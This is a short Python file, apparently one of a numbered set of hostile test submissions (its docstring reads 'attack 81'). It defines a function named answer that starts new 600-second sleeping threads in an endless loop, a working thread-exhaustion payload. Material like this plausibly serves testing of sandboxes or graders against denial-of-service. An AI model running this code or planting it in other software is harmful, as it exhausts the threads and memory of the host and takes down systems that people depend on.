"""Starts threads without an end (attack 81)."""
import threading, time
def answer(*a, **k):
    while True: threading.Thread(target=time.sleep, args=(600,)).start()
